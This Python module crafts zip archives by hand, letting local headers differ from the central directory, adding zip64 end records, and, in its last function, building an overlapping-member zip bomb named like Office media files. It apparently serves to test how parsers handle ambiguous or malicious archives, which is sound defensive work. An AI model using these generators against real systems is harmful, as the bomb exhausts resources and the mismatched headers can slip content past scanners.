"""Zip files written byte by byte (APPNOTE 4.3), so that their two descriptions can be made to differ."""

import struct
import zlib
from collections.abc import Iterable, Mapping
from dataclasses import dataclass

STORED, DEFLATED = 0, 8
DESCRIPTOR, UTF8 = 0x8, 0x800
LOCAL = struct.Struct("<4sHHHHHLLLHH")
CENTRAL = struct.Struct("<4sHHHHHHLLLHHHHHLL")
END = struct.Struct("<4sHHHHLLH")


@dataclass(frozen=True)
class Member:
    """One member. What the local header says can differ from the directory; ``None`` says the same."""

    name: bytes
    data: bytes
    method: int = DEFLATED
    flags: int = 0
    local_name: bytes | None = None
    local_sizes: tuple[int, int, int] | None = None
    extra: bytes = b""
    local_extra: bytes = b""
    after: bytes = b""
    attributes: int = 0
    size: int | None = None

    @property
    def body(self) -> bytes:
        """The packed bytes."""
        if self.method != DEFLATED:
            return self.data
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        return packer.compress(self.data) + packer.flush()

    @property
    def sizes(self) -> tuple[int, int, int]:
        """Check sum, packed size and size, as the directory has them."""
        return zlib.crc32(self.data), len(self.body), len(self.data) if self.size is None else self.size

    def local(self) -> bytes:
        """The header before the data, the data, and what follows."""
        name = self.name if self.local_name is None else self.local_name
        sizes = self.local_sizes or self.sizes
        head = LOCAL.pack(b"PK\x03\x04", 20, self.flags, self.method, 0, 33, *sizes, len(name), len(self.local_extra))
        return head + name + self.local_extra + self.body + self.after

    def entry(self, offset: int) -> bytes:
        """The line in the directory."""
        lengths = (len(self.name), len(self.extra), 0, 0, 0, self.attributes, offset)
        head = CENTRAL.pack(b"PK\x01\x02", 0x314, 20, self.flags, self.method, 0, 33, *self.sizes, *lengths)
        return head + self.name + self.extra


def members(parts: Mapping[str, bytes]) -> list[Member]:
    """A plain member for each part."""
    return [Member(name.encode(), data) for name, data in parts.items()]


def zipped(found: Iterable[Member], *, before: bytes = b"", gap: bytes = b"", comment: bytes = b"") -> bytes:
    """The members, the directory and the end record; ``gap`` stands between data and directory."""
    data, entries, count = before, b"", 0
    for one in found:
        entries += one.entry(len(data))
        data += one.local()
        count += 1
    data += gap
    end = END.pack(b"PK\x05\x06", 0, 0, count, count, len(entries), len(data), len(comment))
    return data + entries + end + comment


def zipped_large(found: Iterable[Member]) -> bytes:
    """As ``zipped``, with the end records of a large zip file (zip64, 4.3.14), which some programs always write."""
    plain = zipped(found)
    place = len(plain) - END.size
    count, _, size, offset, _ = struct.unpack_from("<HHLLH", plain, place + 8)
    large = struct.pack("<4sQHHLLQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, offset)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, place, 1)
    ones = END.pack(b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return plain[:place] + large + locator + ones


def quoted_overlap(parts: Mapping[str, bytes], kernel: bytes, count: int) -> bytes:
    """A bomb of the kind D. Fifield described: each member quotes the header of the next one and shares its data."""
    plain = zipped(members(parts))
    place = plain.rfind(b"PK\x05\x06")
    own, _, length, offset, _ = struct.unpack_from("<HHLLH", plain, place + 8)
    lines, tail, content = [], Member(b"", kernel).body, kernel
    for number in range(count):
        name = b"word/media/k%04d.bin" % number
        told = (zlib.crc32(content), len(tail), len(content), len(name))
        head = LOCAL.pack(b"PK\x03\x04", 20, 0, DEFLATED, 0, 33, *told, 0) + name
        lines.append((told, name))
        quote = struct.pack("<BHH", 0, len(head), len(head) ^ 0xFFFF)
        block, tail, content = head + tail, quote + head + tail, head + content
    at, directory = offset, b""
    for told, name in reversed(lines):
        directory += CENTRAL.pack(b"PK\x01\x02", 0x314, 20, 0, DEFLATED, 0, 33, *told, *(0,) * 5, at) + name
        at += LOCAL.size + len(name) + 5
    data, directory = plain[:offset] + block, plain[offset : offset + length] + directory
    end = END.pack(b"PK\x05\x06", 0, 0, own + count, own + count, len(directory), len(data), 0)
    return data + directory + end
